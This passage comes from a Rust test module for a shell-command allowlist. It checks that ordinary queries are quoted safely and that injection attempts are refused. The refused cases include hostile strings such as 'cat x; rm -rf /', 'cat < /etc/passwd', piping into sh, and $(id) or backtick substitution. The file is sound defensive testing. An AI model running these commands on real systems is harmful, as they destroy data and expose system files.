            ok("find . -name -executable"),
            "'find' '.' '-name' '-executable'"
        );
        assert_eq!(ok("du --files0-from=list"), "'du' '--files0-from=list'");
        assert_eq!(ok("diff -u a b"), "'diff' '-u' 'a' 'b'");
        assert_eq!(ok("grep -f patterns file"), "'grep' '-f' 'patterns' 'file'");
    }

    #[test]
    fn uniq_with_one_operand_is_allowed() {
        for query in [
            "uniq",
            "uniq in",
            "uniq -c in",
            "uniq -f 2 in",
            "uniq -f2 in",
            "uniq -cf 2 in",
            "uniq -s 3 -w 4 in",
            "uniq --skip-fields 2 in",
            "uniq --skip-fields=2 in",
            "uniq --skip-f 2 in",
            "uniq --check-chars 4 in",
            "uniq --all-repeated=separate in",
            "uniq -- in",
            "uniq -- -c",
            "uniq -",
            "uniq -2 in",
        ] {
            ok(query);
        }
    }

    #[test]
    fn common_uses_are_allowed_and_quoted() {
        let cases = [
            ("grep -rn 'a|b' .", "'grep' '-rn' 'a|b' '.'"),
            (
                "find . -name '*.log' -maxdepth 2",
                "'find' '.' '-name' '*.log' '-maxdepth' '2'",
            ),
            ("find . -name \\*.log", "'find' '.' '-name' '*.log'"),
            ("sort -k2 -n file", "'sort' '-k2' '-n' 'file'"),
            ("rg -n foo", "'rg' '-n' 'foo'"),
            ("tail -n 50 file", "'tail' '-n' '50' 'file'"),
            ("ls -la", "'ls' '-la'"),
            ("du -sh .", "'du' '-sh' '.'"),
            ("  df -h  ", "'df' '-h'"),
            ("cat \"it's\" file", "'cat' 'it'\\''s' 'file'"),
            ("grep -E \"^a$\" f", "'grep' '-E' '^a$' 'f'"),
            ("grep -c '' f", "'grep' '-c' '' 'f'"),
            ("ca't' x", "'cat' 'x'"),
            ("grep \"a\\\"b\\\\c\\d\" f", "'grep' 'a\"b\\c\\d' 'f'"),
            ("stat -c %s f", "'stat' '-c' '%s' 'f'"),
            ("wc -l a b", "'wc' '-l' 'a' 'b'"),
            ("head -c 10 f", "'head' '-c' '10' 'f'"),
            ("file -b f", "'file' '-b' 'f'"),
            ("tree -L 2", "'tree' '-L' '2'"),
            ("find . ! -name x", "'find' '.' '!' '-name' 'x'"),
            (
                "find . \\( -name a -o -name b \\)",
                "'find' '.' '(' '-name' 'a' '-o' '-name' 'b' ')'",
            ),
            ("ls a]b x=y a#b", "'ls' 'a]b' 'x=y' 'a#b'"),
            ("ls\tdir", "'ls' 'dir'"),
            ("cat ~/.bashrc", "'cat' ~/'.bashrc'"),
            ("ls ~", "'ls' ~"),
            ("ls ~/", "'ls' ~/"),
            ("ls ~/\"my dir\"", "'ls' ~/'my dir'"),
            ("ls '~/x' a~b", "'ls' '~/x' 'a~b'"),
            ("grep 'héllo 日本' f", "'grep' 'héllo 日本' 'f'"),
            ("grep '$x' f", "'grep' '$x' 'f'"),
        ];
        for (query, expected) in cases {
            assert_eq!(ok(query), expected, "query {query:?}");
        }
    }

    #[test]
    fn metacharacter_attacks_are_refused() {
        let cases = [
            ("cat x; rm -rf /", "`;`"),
            ("cat $(id)", "command substitution"),
            ("cat `id`", "backtick"),
            ("cat x && id", "`&`"),
            ("cat x & id", "`&`"),
            ("cat x | sh", "`|`"),
            ("cat x || id", "`|`"),
            ("cat x > y", "`>`"),
            ("cat x >> y", "`>`"),
            ("cat < /etc/passwd", "`<`"),
            ("cat x\nid", "line break"),
            ("cat x\r\nid", "line break"),
            ("cat 'x\ny'", "line break"),
            ("cat 'x'$(id)", "command substitution"),
            ("cat 'x'\"$(id)\"", "command substitution"),
            ("cat \"`id`\"", "backtick"),
            ("cat '$(id)'", "`$(`"),
            ("cat \\$\\(id\\)", "`$(`"),
            ("cat '`id`'", "backtick"),
            ("cat '${x}'", "`$(`, `${`"),
            ("cat \"$HOME\"", "variable"),
            ("cat \"${HOME}\"", "variable"),
            ("cat $HOME", "variable"),
            ("cat (x)", "subshell"),
            ("cat {a,b}", "brace"),
            ("ls *.log", "wildcard"),
            ("ls a?", "wildcard"),
            ("ls [ab]", "wildcard"),
            ("ls # comment", "comment"),
            ("ls ~root", "`~user`"),
            ("ls ~+", "`~user`"),
            ("cat 'x", "unclosed ' quote"),
            ("cat \"x", "unclosed \" quote"),
            ("cat x\\", "lone backslash"),
            ("cat a\0b", "NUL"),
            ("/bin/cat x", "without a path"),
            ("X=1 cat x", "Environment assignments"),
            ("-cat x", "not an allowed command"),
            ("sh -c id", "not an allowed command"),
            ("'' x", "not an allowed command"),
            ("~ x", "not an allowed command"),
            ("cat\\ x y", "not an allowed command"),
        ];
        for (query, needle) in cases {
            refused_with(query, needle);
        }
    }

    #[test]
    fn empty_and_blank_queries_are_refused_in_every_mode() {
        for mode in [PolicyMode::Allowlist, PolicyMode::Shell] {
            let policy = CommandPolicy {
                mode,
                extra_allowed: vec![],
            };
            for query in ["", "   ", "\t\n", "\n"] {
                let err = policy.build(query).unwrap_err();
                assert!(err.0.contains("empty"), "{mode:?} {query:?}: {err}");
            }
            let err = policy.build("ls \0").unwrap_err();
            assert!(err.0.contains("NUL"), "{mode:?}: {err}");
        }
    }

    #[test]
    fn off_mode_refuses_everything() {
        let policy = CommandPolicy {
            mode: PolicyMode::Off,
            extra_allowed: vec!["id".into()],
        };
        for query in ["ls", "", "id", "cat x; id"] {
            let err = policy.build(query).unwrap_err();
            assert!(err.to_string().contains("SCOUT_COMMAND_POLICY=off"));
        }
    }

    #[test]
    fn shell_mode_passes_the_trimmed_query() {
        let policy = CommandPolicy {
            mode: PolicyMode::Shell,
            extra_allowed: vec![],
        };
        assert_eq!(
            policy.build("  ls *.log | wc -l && id\n").unwrap(),
            "ls *.log | wc -l && id"
        );
        assert_eq!(
            policy.build("for f in a b; do\n echo $f\ndone").unwrap(),
            "for f in a b; do\n echo $f\ndone"
        );
    }

    #[test]
    fn extra_allowed_commands_extend_the_allowlist() {
        let policy = CommandPolicy {
            mode: PolicyMode::Allowlist,
            extra_allowed: parse_allowed_commands(" uptime, free ,,journalctl"),
        };
        assert_eq!(policy.build("uptime").unwrap(), "'uptime'");
        assert_eq!(policy.build("free -m").unwrap(), "'free' '-m'");
        assert_eq!(
            policy.build("journalctl -n 5").unwrap(),
            "'journalctl' '-n' '5'"
        );
        let err = policy.build("id").unwrap_err();
        assert!(err.0.contains("uptime, free, journalctl"), "{err}");
        assert!(err.0.contains("SCOUT_ALLOWED_COMMANDS"));
        // An empty entry never allows an empty program name.
        let policy = CommandPolicy {
            mode: PolicyMode::Allowlist,
            extra_allowed: vec![String::new(), " ".into()],
        };
        assert!(policy.build("'' x").is_err());
        // The escape checks still apply to the default commands.
        assert!(policy.build("find . -delete").is_err());
    }

    #[test]
    fn policy_mode_parses() {
        assert_eq!("Allowlist".parse(), Ok(PolicyMode::Allowlist));
        assert_eq!(" shell ".parse(), Ok(PolicyMode::Shell));
        assert_eq!("OFF".parse(), Ok(PolicyMode::Off));
        assert!("yes".parse::<PolicyMode>().is_err());
    }

    #[test]
    fn refusal_messages_say_what_to_do() {
        let msg = refused("cat x | sh");
        assert!(msg.contains("SCOUT_COMMAND_POLICY=shell"), "{msg}");
        let msg = refused("ls *.log");
        assert!(msg.contains("find . -name '*.log'"), "{msg}");
        let msg = refused("find . -exec id");
        assert!(msg.contains("-print"), "{msg}");
        let msg = refused("cp a b");
        assert!(msg.contains("Allowed commands: cat, df"), "{msg}");
        let err: Box<dyn std::error::Error> = Box::new(Refusal("x".into()));
        assert_eq!(err.to_string(), "x");
    }

    #[test]
    fn shell_quote_basics() {
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("abc"), "'abc'");
        assert_eq!(shell_quote("'"), "''\\'''");
        assert_eq!(shell_quote("a'b"), "'a'\\''b'");
    }

    /// Runs `sh -c SCRIPT` with a fixed HOME and returns stdout.
    fn sh(script: &str) -> Vec<u8> {
        let out = Command::new("/bin/sh")
            .arg("-c")
            .arg(script)
            .env("HOME", "/home/scout-test")
            .output()
            .expect("run /bin/sh");
        assert!(out.status.success(), "sh failed on {script:?}: {out:?}");
        out.stdout
    }

    #[test]
    fn shell_quote_round_trips_through_sh() {
        let tricky = [
            "",
            "plain",
            "two words",
            "'",
            "''",
            "it's",
            "\"double\"",
            "$HOME $(id) ${x} `id`",
            "back\\slash\\",
            "line1\nline2\n",
            "\r\t\x0b\x0c\x1b[0m",
            "*?[a-z]{a,b}~ #!;|&<>()",
            "-n",
            "%s %d %%",
            "héllo wörld 日本語 🦀",
            "'\\''",
        ];
        for s in tricky {
            let output = sh(&format!("printf %s {}", shell_quote(s)));
            assert_eq!(output, s.as_bytes(), "string {s:?}");
        }
    }

    /// Runs the arguments of a built command line through `sh` and returns what it sees.
    fn sh_words(line: &str) -> Vec<String> {
        let args = line.split_once(' ').map_or("", |(_, rest)| rest);
        let script = format!("set -- {args}; for a; do printf '%s\\0' \"$a\"; done");
        let out = sh(&script);
        let text = String::from_utf8(out).expect("utf-8 from sh");
        let mut words: Vec<String> = text.split('\0').map(str::to_string).collect();
        words.pop();
        words
    }

    /// What the remote shell should see for a word: `~` expanded to HOME.
    fn expected_arg(word: &Word) -> String {
        if word.home {
            word.text.replacen('~', "/home/scout-test", 1)
        } else {
            word.text.clone()
        }
    }

    #[test]
    fn sh_sees_exactly_the_tokenized_words() {
        for query in [
            "grep -rn 'a|b' .",
            "cat \"it's\" '' x\\ y ~ ~/ ~/'a b' '~/c'",
            "grep -e \"a\\\"b\\$c\\\\e\\f\" f",
            "ls 'héllo 日本' a]b x=y a#b '!' -- -",
        ] {
            let words = tokenize(query).unwrap();
            let line = ok(query);
            let expected: Vec<String> = words[1..].iter().map(expected_arg).collect();
            assert_eq!(sh_words(&line), expected, "query {query:?} line {line:?}");
        }
    }

    /// xorshift64*: a tiny deterministic PRNG for property tests.
    struct Rng(u64);

    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 >> 12;
            self.0 ^= self.0 << 25;
            self.0 ^= self.0 >> 27;
            self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
        }

        fn below(&mut self, n: usize) -> usize {
            (self.next() % n as u64) as usize
        }

        fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
            items[self.below(items.len())]
        }
    }

    const PIECES: &[&str] = &[
        "a", "b", "x", "o", "C", "R", "é", "日", "🦀", " ", " ", " ", "\t", "'", "'", "\"", "\"",
        "\\", "\\", "$", "$(", "${", "`", ";", "|", "&", "<", ">", "(", ")", "{", "}", "*", "?",
        "[", "]", "~", "~/", "/", "#", "=", "!", "-", "--", "-o", "-exec", "--pre", "-C", "-R",
        "--output", ".", "..", "%", "\n", "\r", "\0", "\x0b", ",", "'a b'", "'$ x'", "\"c d\"",
        "\"\\$\"", "\"\\\"\"", "x\\ y", "\\'", "\\\"", "''", "'\\'", " -n ", " -- ",
    ];

    fn random_query(rng: &mut Rng) -> String {
        let mut query = String::new();
        if rng.below(4) != 0 {
            query.push_str(rng.pick(DEFAULT_ALLOWED));
            query.push(' ');
        }
        for _ in 0..rng.below(12) {
            query.push_str(rng.pick(PIECES));
        }
        query
    }

    #[test]
    fn random_queries_never_panic_and_round_trip() {
        let mut rng = Rng(0x5C0_u64 ^ 0x9E37_79B9_7F4A_7C15);
        let policy = allowlist();
        let mut built = 0;
        let mut checked_with_sh = 0;
        for _ in 0..10_000 {
            let query = random_query(&mut rng);
            let Ok(line) = policy.build(&query) else {
                continue;
            };
            built += 1;
            let original = tokenize(query.trim_matches(|c: char| c.is_ascii_whitespace()))
                .unwrap_or_else(|e| panic!("built {query:?} but it does not tokenize: {e}"));
            let again = tokenize(&line)
                .unwrap_or_else(|e| panic!("{query:?} built {line:?}, which is refused: {e}"));
            assert_eq!(again, original, "query {query:?} line {line:?}");
            if checked_with_sh < 300 {
                checked_with_sh += 1;
                let expected: Vec<String> = original[1..].iter().map(expected_arg).collect();
                assert_eq!(sh_words(&line), expected, "query {query:?} line {line:?}");
            }
        }
        assert!(built > 1_500, "only {built} random queries were built");
    }

    #[test]
    fn random_bytes_never_panic() {
        let mut rng = Rng(42);
        let policies = [
            allowlist(),
            CommandPolicy {
                mode: PolicyMode::Shell,
                extra_allowed: vec![],
            },
        ];
        for _ in 0..10_000 {
            let len = rng.below(24);
            let bytes: Vec<u8> = (0..len).map(|_| (rng.next() & 0xff) as u8).collect();
            let query = String::from_utf8_lossy(&bytes);
            for policy in &policies {
                let _ = policy.build(&query);
            }
            let _ = tokenize(&query);
        }
    }
}

/// The examples these functions used to carry in their docs (they are not public).
#[cfg(test)]
mod examples {
    #[allow(unused_imports)]
    use super::*;

    #[test]
    fn example_shell_quote() {
        assert_eq!(crate::ops::command::shell_quote("it's"), r"'it'\''s'");
    }
}
